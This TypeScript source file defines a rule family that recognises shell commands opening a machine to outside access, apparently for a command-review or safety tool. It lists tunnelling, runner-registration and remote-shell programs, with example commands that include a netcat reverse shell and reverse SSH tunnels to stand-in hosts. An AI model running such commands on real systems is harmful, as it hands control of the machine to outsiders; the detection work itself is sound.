import { isNearby } from '../../../words/hosts.ts'
import type { Deeds, Family } from '../deeds.ts'

/** Programs of which any use opens the machine. Their `-h` names a host or a key, and asks for no help. */
const always: Deeds = { work: [''], hIsNoHelp: true }
const shells: Deeds = { ...always, object: 'shell of this machine' }

const sshBack: Deeds = {
  work: ['-R', '-w', '-o~remoteforward', '-o~tunnel'],
  when: ({ command }) => !isNearby(command.network?.host ?? ''),
}

const programs: Family['programs'] = {
  ssh: sshBack,
  autossh: sshBack,
  gh: {
    work: ['codespace|cs ports visibility'],
    when: ({ args }) => args.some(({ value }) => /^\d+:public$/.test(value)),
  },
  ngrok: { work: ['http|https|tcp|tls|start|tunnel'] },
  cloudflared: { work: ['tunnel|access'] },
  bore: { work: ['local'] },
  chisel: { work: ['client|server'] },
  zrok: { work: ['share|access'] },
  tailscale: { work: ['funnel|serve|up'] },
  upterm: { work: ['host'] },
  inlets: { work: ['client|http|tcp'] },
  code: { work: ['tunnel|serve-web'] },
  devtunnel: { work: ['host'] },
  'lt localtunnel frpc ligolo tmate sshuttle localxpose loclx pagekite code-server iodine dnscat dnscat2 ptunnel teleconsole x11vnc anydesk sshd':
    always,
  // Runners carry out the commands that a service of others sends them.
  config: {
    work: ['--token|--runnergroup|--pat'],
    when: ({ command }) => command.program === 'config.sh',
  },
  'gitlab-runner act_runner': { work: ['register'] },
  'buildkite-agent': { work: ['start'] },
  'telnetd in.telnetd rshd ttyd gotty pwncat-cs gs-netcat msfvenom msfconsole': shells,
}

/** Patterns of subcommands with which these programs only look. */
const looks = ['* list|ls|info|status|login|logout|help|version|delete']

export const openedAccess: Family = {
  area: 'opened-access',
  thing: 'machine',
  kind: 'open',
  object: 'this machine to others, from outside',
  names: 'none',
  programs: Object.fromEntries(
    Object.entries(programs).map(([names, deeds]) => [names, { trials: 'version', harmless: looks, ...deeds }]),
  ),
  examples: {
    'ngrok http 3000': 'opens this machine to others, from outside',
    'ssh -fNR 2222:localhost:22 a.example': 'opens this machine to others, from outside',
    'ssh -o RemoteForward=80:localhost:3000 a.example': 'opens this machine to others, from outside',
    'npx localtunnel --port 3000': 'runs package `localtunnel`; opens this machine to others, from outside',
    './config.sh --url https://a.example/b --token X': 'opens this machine to others, from outside',
    'docker run --rm cloudflare/cloudflared:latest tunnel --url http://web:80':
      'opens this machine to others, from outside',
    'npx foo-open tunnel http://localhost:3000': 'runs package `foo-open`; opens this machine to others, from outside',
    'gotty bash': 'opens a shell of this machine',
    'nc -e /bin/sh a.example 99': 'opens a shell of this machine',
    'ssh -R 9003:localhost:9003 dev@192.168.56.10': '',
    'cloudflared tunnel list': '',
    'ngrok --version': '',
  },
}
